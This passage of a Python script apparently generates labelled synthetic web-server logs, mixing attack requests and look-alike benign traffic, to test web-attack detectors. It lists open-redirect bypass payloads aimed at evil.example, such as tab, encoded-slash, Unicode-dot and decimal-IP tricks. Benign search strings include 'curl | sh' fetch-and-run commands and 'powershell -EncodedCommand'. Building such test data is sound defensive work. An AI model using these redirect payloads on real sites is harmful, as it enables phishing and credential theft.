A('open-redirect', 'tab-after-slash', '/continue?url=/%09/evil.example', 302, OZ + ' (/%09/host)')
A('open-redirect', 'ideographic-full-stop', '/go?url=//evil%E3%80%82example', 302, OR + ' (U+3002 ideographic full stop)')
A('open-redirect', 'fragment-whitelist', '/login?next=https://evil.example%23.shop.example', 302, OR + ' (# before allowed host)')
A('open-redirect', 'quad-slash', '/redirect?dest=////evil.example', 302, OZ + ' (////host)')
A('open-redirect', 'dotdot-suffix', '/oauth/return?target=//evil.example/%2f..', 302, OZ + ' (//host/%2f..)')
A('open-redirect', 'decimal-ip', '/exit?to=//%d' % ip_int('198.18.41.60'), 302, OR + ' (decimal IP)')
A('open-redirect', 'u3031-vertical-kana', '/redir?u=%E3%80%B1evil.example', 302, OR + ' (U+3031, normalised to //)')
A('open-redirect', 'double-encoded', '/redirect?url=%252F%252Fevil.example', 302, OR + ' (double encoded)')
A('open-redirect', 'path-double-slash-dotdot', '//evil.example/%2f..', 301, OZ + ' (path //host/%2f..)', place='path')
A('open-redirect', 'path-encoded-slashes', '/%2f%2fevil.example', 301, OZ + ' (path /%2f%2fhost)', place='path')
A('open-redirect', 'path-encoded-backslash', '/%5cevil.example', 301, OZ + ' (path /%5chost)', place='path')
A('open-redirect', 'path-tab', '/%09/evil.example', 301, OZ + ' (path /%09/host)', place='path')
A('open-redirect', 'path-triple-slash', '///evil.example/%2e%2e', 301, OZ + ' (path ///host/%2e%2e)', place='path')
A('open-redirect', 'path-https-colon-slash', '/https:/evil.example', 301, OR + ' (path /https:/host)', place='path')
A('open-redirect', 'path-redirect-encoded-url', '/redirect/https%3A%2F%2Fevil.example%2Flogin', 302, OR + ' (encoded URL as path segment)', place='path')

# ================================================================= benign traffic
DOCS = 'https://docs.example'
FORUM = 'https://forum.example'
SHOP = 'https://shop.example'
APP = 'https://app.example'
UNI = 'https://www.cs.uni.example'
INTRA = 'https://intranet.example'

# Each visit function gets the source's index i among the n sources of its kind and
# takes variants lst[i::n], so every variant is used and none is drawn twice by chance.
def mine(lst, i, n):
    return lst[i::n] or [lst[i % len(lst)]]

SHELL_TERMS = ['curl+%7C+sh+install', 'curl+-fsSL+https%3A%2F%2Fget.example.dev+%7C+sh', 'what+is+%24IFS+in+bash',
               'base64+-d+decode+file', 'cmd+%2Fc+start+explorer', 'powershell+-EncodedCommand+example',
               'brace+expansion+%7B1..10%7D', 'find+-exec+%7B%7D+%5C%3B']
def docs_search_shell(r, i, n):
    page = ['/install/linux/', '/guides/shell-basics/', '/reference/cli/', '/guides/windows-setup/', '/guides/shell-basics/'][i % 5]
    out = [('/', 200, r.choice(['-', 'https://www.google.com/'])),
           ('/assets/docs.css', 200, DOCS + '/'), ('/assets/docs.js', 200, DOCS + '/')]
    prev = DOCS + '/'
    for term in mine(SHELL_TERMS, i, n):
        out.append(('/search?q=' + term, 200, prev))
        prev = DOCS + '/search?q=' + term
    return out + [(page, 200, prev), ('/assets/img/terminal.svg', 200, DOCS + page)]

FORUM_TOPICS = [('48213', 'why-is-home-empty-in-cron', 'Why+is+%24%7BHOME%7D+empty+in+cron%3F'),
                ('50177', 'whoami-prints-root-inside-docker', '%60whoami%60+prints+root+inside+docker'),
                ('49302', 'date-f-in-filename-not-expanded', '%24%28date+%2B%25F%29+in+filename+not+expanded'),
                ('51044', 'bashrc-not-sourced-over-ssh', '%7E%2F.bashrc+not+sourced+over+ssh'),
                ('47731', 'echo-path-tr-one-per-line', 'echo+%24PATH+%7C+tr+%3A+%27%5Cn%27')]
def forum_shell_title(r, i, n):
    tid, slug, title = mine(FORUM_TOPICS, i, n)[0]
    url = '/t/%s/%s' % (slug, tid)
    return [(url, 200, r.choice(['-', 'https://duckduckgo.com/', 'https://www.google.com/'])),
            ('/static/forum.css', 200, FORUM + url), ('/static/forum.js', 200, FORUM + url),
            ('/user_avatar/forum.example/alice/48/12_2.png', 200, FORUM + url),
            ('/search?q=' + title, 200, FORUM + url),
            ('/posts/preview?title=' + title + '&category=linux', 200, FORUM + '/new-topic'),
            (url + '?page=2', 200, FORUM + url)]

TEMPLATE_TERMS = ['%7B%7B+loop.index+%7D%7D', '%7B%25+raw+%25%7D', '%7B%7B+dump%28user%29+%7D%7D', '%7B%7B%23each+items%7D%7D',
                  'th%3Atext%3D%22%24%7Buser.name%7D%22', '%3C%25%3D+link_to+%25%3E', '%24%7Buser.name%21%22Guest%22%7D',
                  '%23%7Bname%7D+interpolation', '%7B%24smarty.now%7Cdate_format%7D']
def docs_template(r, i, n):
    page = ['/templates/loops/', '/templates/syntax/', '/templates/filters/', '/templates/escaping/', '/templates/syntax/'][i % 5]
    out = [('/templates/', 200, r.choice(['-', 'https://www.bing.com/'])),
           ('/assets/docs.css', 200, DOCS + '/templates/'), ('/assets/docs.js', 200, DOCS + '/templates/')]
    prev = DOCS + '/templates/'
    for term in mine(TEMPLATE_TERMS, i, n):
        out.append(('/search?q=' + term, 200, prev))
        prev = DOCS + '/search?q=' + term
    return out + [(page, 200, prev)]

IDPS = [('https://accounts.google.com/', '/auth/google/callback?state={s}&code=4%2F0AanRRrt{c}&scope=email+profile+openid+https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email&authuser=0&prompt=none'),
        ('https://login.microsoftonline.com/', '/signin-oidc?code=0.AXkA{c}&state={s}&session_state=8f2c1e44-5b7a-4d1e-9c3f-2a6b0d9e7f11'),
        ('https://github.com/', '/auth/github/callback?code={c}&state={s}'),
        ('https://id.example/', '/sso/callback?state={s}&session_state=3b0c9f2e-71d4-4a8b-b6e5-0c2d4f6a8e10&iss=https%3A%2F%2Fid.example%2Frealms%2Fcorp&code={c}'),
        ('https://example.okta.com/', '/authorization-code/callback?code={c}&state={s}')]
def sso_return(r, i, n):
    ref, tmpl = mine(IDPS, i, n)[0]
    state = b64url('{"returnTo":"/dashboard","nonce":"%08x"}' % r.getrandbits(32))
    code = ''.join(r.choice('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789') for _ in range(20))
    return [('/', 200, '-'), ('/static/app.css', 200, APP + '/'),
            ('/login?return_to=%2Fdashboard', 200, APP + '/'),
            ('/auth/start?provider=oidc', 302, APP + '/login?return_to=%2Fdashboard'),
            (tmpl.format(s=state, c=code), 302, ref),
            ('/dashboard', 200, ref),
            ('/static/app.js', 200, APP + '/dashboard'), ('/api/v1/me', 200, APP + '/dashboard')]

REDIRECTS = [[('/go/spring-sale', 302, 'https://t.co/'), ('/sale/spring', 200, 'https://t.co/')],
             [('/r?u=https%3A%2F%2Fshop.example%2Fsale%2Fwinter&utm_source=newsletter&utm_medium=email', 302, 'https://mail.google.com/'),
              ('/sale/winter', 200, 'https://mail.google.com/')],
             [('/redirect?url=%2Fproducts%2Flinen-shirt-white', 302, SHOP + '/'), ('/products/linen-shirt-white', 200, SHOP + '/')],
             [('/out?url=https%3A%2F%2Fshop.example%2Fblog%2F2026%2Fwinter-guide', 302, SHOP + '/'),
              ('/blog/2026/winter-guide', 200, SHOP + '/')],
             [('/s/x7Kp2', 301, 'https://www.instagram.com/'), ('/products/merino-beanie?ref=ig', 200, 'https://www.instagram.com/')]]
def same_site_redirect(r, i, n):
    v = mine(REDIRECTS, i, n)[0]
    out = []
    if v[0][2].startswith(SHOP):
        # the redirect link is on the shop's own home page
        out += [('/', 200, r.choice(['-', 'https://www.google.com/'])), ('/static/css/main.css', 200, SHOP + '/')]
    out += v
    land = SHOP + v[-1][0]
    if not v[0][2].startswith(SHOP):
        out.append(('/static/css/main.css', 200, land))
    out += [('/static/js/app.js', 200, land), ('/images/banner-sale.webp', 200, land),
            ('/login?next=%2Fcheckout%2F', 200, land), ('/checkout/', 302, SHOP + '/login?next=%2Fcheckout%2F')]
    return out

FILTERS = ['/api/v2/products?filter=%7B%22brand%22%3A%22acme%22%2C%22price%22%3A%7B%22gte%22%3A10%2C%22lte%22%3A50%7D%7D&sort=-price',
           '/api/products?filters[category][slug][$eq]=shoes&filters[price][$lte]=100&sort[0]=price:asc&pagination[page]=1',
           '/api/articles?filters[title][$containsi]=winter&populate=*&locale=en',
           '/items/posts?filter[status][_eq]=published&fields=*,author.name&limit=20',
           '/api/articles?filter[tags]=winter&include=author&fields[articles]=title,summary',
           '/api/search?q=title%3A%22linen+shirt%22+AND+price%3A%5B10+TO+50%5D',
           '/graphql?operationName=Products&variables=%7B%22first%22%3A20%2C%22after%22%3Anull%7D&extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%226f1c0e3d9a%22%7D%7D']
def json_filter(r, i, n):
    out = [('/', 200, '-'), ('/static/css/main.css', 200, SHOP + '/'), ('/static/js/app.js', 200, SHOP + '/'),
           ('/products', 200, SHOP + '/')]
    for v in mine(FILTERS, i, n):
        out.append((v, 200, SHOP + '/products'))
    out.append(('/images/products/linen-shirt-white-400.webp', 200, SHOP + '/products'))
    v = out[4][0]
    out.append((v.replace('pagination[page]=1', 'pagination[page]=2') if 'pagination[page]=1' in v else v + '&page=2', 200, SHOP + '/products'))
    return out

def base64_token(r, i, n):
    img = b64('{"bucket":"shop-media","key":"products/linen-shirt-white.jpg","edits":{"resize":{"width":400,"fit":"cover"}}}')
    jwt = (b64url('{"alg":"HS256","typ":"JWT"}') + '.' + b64url('{"sub":"order-88213","exp":1769040000}') + '.' +
           b64url(bytes(r.getrandbits(8) for _ in range(32))))
    v = mine([[('/img/' + img, 200, SHOP + '/products/linen-shirt-white')],
              [('/download/invoice?token=' + jwt, 200, 'https://mail.google.com/')],
              [('/newsletter/unsubscribe?t=' + q(b64('alice@example.org')), 200, 'https://outlook.live.com/')],
              [('/cdn/thumb?k=' + q(b64('/images/products/merino-beanie.jpg')) + '&w=320', 200, SHOP + '/products/merino-beanie')],
              [('/Search.aspx?__VIEWSTATE=%2FwEPDwUKLTk1NjQ3NzM3OWRk0Xn5xqMz3y%2Fq1lB0Y8J2bq7kH1A%3D&__VIEWSTATEGENERATOR=BBBC20B8&__EVENTVALIDATION=%2FwEdAAJ2p0cXzN5n0bXzxTQ6GmNqWw%3D%3D&txtSearch=merino&btnSearch=Search', 200, SHOP + '/Search.aspx')]], i, n)[0]
    return [('/', 200, '-'), ('/static/css/main.css', 200, SHOP + '/'), ('/products/linen-shirt-white', 200, SHOP + '/')] + v + \
           [('/static/js/app.js', 200, SHOP + '/'), ('/products/merino-beanie', 200, SHOP + '/products/linen-shirt-white')]

def tilde_home(r, i, n):
    base = '/~%s/' % mine(['alice', 'bkumar', 'mschmidt', 'jlee'], i, n)[0]
    return [(base, 200, r.choice(['-', 'https://scholar.google.com/', UNI + '/people/'])),
            (base + 'style.css', 200, UNI + base), (base + 'photo.jpg', 200, UNI + base),
            (base + 'publications.html', 200, UNI + base),
            (base + 'papers/thesis-2025.pdf', 200, UNI + base + 'publications.html'),
            (base + 'teaching/cs101/', 200, UNI + base)]

SECURITY_TERMS = ['session+id', 'PHPSESSID+cookie+lifetime', 'disable+jsessionid+in+url', 'CRLF+vs+LF+line+endings+git',
                  'ldap+filter+%28%26%28objectClass%3Duser%29%28mail%3D*%29%29', 'what+is+169.254.169.254',
                  '__proto__+vs+prototype', 'xpath+%2F%2Fdiv%5B%40class%3D%27price%27%5D', '%3C%21DOCTYPE+html%3E+missing',
                  'mongodb+%24regex+case+insensitive', '%250d%250a+meaning']
def security_terms(r, i, n):
    out = [('/', 200, r.choice(['-', 'https://www.google.com/'])), ('/assets/docs.css', 200, DOCS + '/'),
           ('/assets/docs.js', 200, DOCS + '/')]
    prev = DOCS + '/'
    for term in mine(SECURITY_TERMS, i, n):
        out.append(('/search?q=' + term, 200, prev))
        prev = DOCS + '/search?q=' + term
    return out + [('/guides/security/', 200, prev), ('/assets/img/diagram-2.svg', 200, DOCS + '/guides/security/')]

PREVIEWS = ['/api/unfurl?url=https%3A%2F%2Fnews.example.org%2F2026%2F01%2F20%2Fwinter-storm',
            '/proxy/image?url=https%3A%2F%2Fcdn.example.net%2Favatars%2F1234.png&w=64',
            '/api/oembed?url=https%3A%2F%2Fwww.youtube.com%2Fwatch%3Fv%3DdQw4w9WgXcQ&format=json',
            '/rss/import?feed=https%3A%2F%2Fblog.example.org%2Ffeed.xml']
def link_preview(r, i, n):
    return [('/chat', 200, '-'), ('/static/app.css', 200, APP + '/chat'), ('/static/app.js', 200, APP + '/chat'),
            ('/api/v1/messages?channel=general&limit=50', 200, APP + '/chat')] + \
           [(v, 200, APP + '/chat') for v in mine(PREVIEWS, i, n)] + \
           [('/api/v1/messages?channel=random&limit=50', 200, APP + '/chat')]

DIRECTORY = ['/people?q=Jo*&dept=all', '/directory?cn=O%27Brien', '/directory?q=smith&dept=R%26D', '/people?q=m%C3%BCller+(sales)']
def directory_search(r, i, n):
    out = [('/', 200, '-'), ('/static/intranet.css', 200, INTRA + '/'), ('/people', 200, INTRA + '/')]
    prev = INTRA + '/people'
    for v in mine(DIRECTORY, i, n):
        out.append((v, 200, prev))
        prev = INTRA + v
    return out + [('/people/profile/4821', 200, prev), ('/people/photo/4821.jpg', 200, INTRA + '/people/profile/4821')]

BENIGN_KINDS = [('docs-search-shell', docs_search_shell, 5), ('forum-title-shell-vars', forum_shell_title, 5),
                ('docs-search-template-syntax', docs_template, 5), ('sso-oauth-return', sso_return, 5),
                ('same-site-redirect', same_site_redirect, 5), ('json-filter-query', json_filter, 5),
                ('base64-token', base64_token, 5), ('tilde-home-page', tilde_home, 4),
                ('search-security-terms', security_terms, 5), ('link-preview-fetch', link_preview, 4),
                ('directory-search', directory_search, 3)]

# ================================================================= write
def esc(s):
    out = []
    for ch in s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

SIZES = {200: (1100, 38000), 301: (162, 162), 302: (0, 154), 304: (0, 0), 400: (150, 157), 403: (153, 153),
         404: (153, 555), 500: (177, 4200)}

def size(r, st, target=''):
    lo, hi = SIZES[st]
    if st == 200 and any(target.endswith(x) for x in ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.pdf')):
        return r.randint(2400, 160000)
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), request, st, sz, esc(ref), esc(ua))

# off-site pages a fixation link is posted on
OFFSITE = ['https://t.co/4kQz8LmNpa', 'https://l.facebook.com/', 'https://mail.google.com/', 'https://outlook.live.com/',
           'https://www.reddit.com/', 'https://discord.com/', 'https://web.telegram.org/', 'https://teams.microsoft.com/',
           'https://forum.deals-hub.example/t/free-gift-cards/1234', 'https://l.instagram.com/', 'https://web.whatsapp.com/']
# same-site pages (forged or real) for the ~10% of plain attacks that send one
PAGE_REFS = ['https://shop.example/', 'https://shop.example/products/linen-shirt-white', 'https://www.example.com/search',
             'https://app.example/dashboard', 'https://www.example.com/index.php']

def main():
    r = random.Random(SEED)
    order = list(range(len(E)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    used = set()
    t = DAY + datetime.timedelta(minutes=3)
    for idx in order:
        e = E[idx]
        while True:
            ip = '100.90.%d.%d' % (r.randint(112, 127), r.randint(1, 254))
            if ip not in used:
                used.add(ip)
                break
        if e['place'] == 'ua':
            ua = e['ua']
        elif e['tool']:
            ua = TOOL[e['tool']]
        else:
            ua = UA[r.choice(BROWSERS)]
        st = e['status']
        path = e['target'].split('?')[0]
        if st == 200 and e['place'] in ('query', 'path') and e['cat'] != 'session-fixation' and \
                path not in ('/', '/index.php', '/search', '/products', '/login'):
            # the probed route may not exist here, or nginx/the app refuses it
            x = r.random()
            st = 404 if x < 0.18 else 403 if x < 0.24 else 400 if x < 0.27 else 200
        if e['place'] == 'referer':
            ref = e['ref']
        elif e['cat'] == 'session-fixation':
            ref = r.choice(OFFSITE)
        else:
            ref = r.choice(PAGE_REFS) if r.random() < 0.10 else '-'
        t += datetime.timedelta(seconds=r.randint(40, 300))
        request = 'GET %s HTTP/1.1' % e['target']
        lines.append((t, line(ip, t, esc(request), st, size(r, st), ref, ua)))
        reqrows.append('\t'.join([ip, e['cat'], e['tech'], esc(request), e['source']]))
        labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['tech']))
    assert len(set((e['cat'], e['tech']) for e in E)) == len(E), 'technique labels must be unique per category'
    lines.sort(key=lambda x: x[0])
    # benign
    blines, blabels = [], []
    bused = set()
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            while True:
                ip = '100.91.%d.%d' % (r.randint(48, 63), r.randint(1, 254))
                if ip not in bused:
                    bused.add(ip)
                    break
            ua = UA[r.choice(BROWSERS)]
            tt = DAY + datetime.timedelta(seconds=r.randint(600, 22 * 3600))
            n = 0
            for (target, st, ref) in fn(r, i, count):
                asset = any(target.endswith(x) for x in ('.css', '.js', '.svg', '.png', '.jpg', '.webp')) or target.startswith('/img/')
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 70))
                if asset and st == 200 and r.random() < 0.12:
                    st = 304     # cached asset revalidated
                blines.append((tt, line(ip, tt, esc('GET %s HTTP/1.1' % target), st, size(r, st, target), ref, ua)))
                n += 1
            assert 4 <= n <= 10, (kind, n)
            blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    with open(os.path.join(OUT, 'attacks.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in lines))
    with open(os.path.join(OUT, 'attacks.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(labels, key=key)))
    with open(os.path.join(OUT, 'requests.tsv'), 'w', newline='\n') as f:
        f.write('ADDRESS\tCATEGORY\tTECHNIQUE\tREQUEST_LINE\tPUBLIC_SOURCE\n')
        f.write(''.join(l + '\n' for l in sorted(reqrows, key=key)))
    with open(os.path.join(OUT, 'benign.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in blines))
    with open(os.path.join(OUT, 'benign.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(blabels, key=key)))

if __name__ == '__main__':
    main()
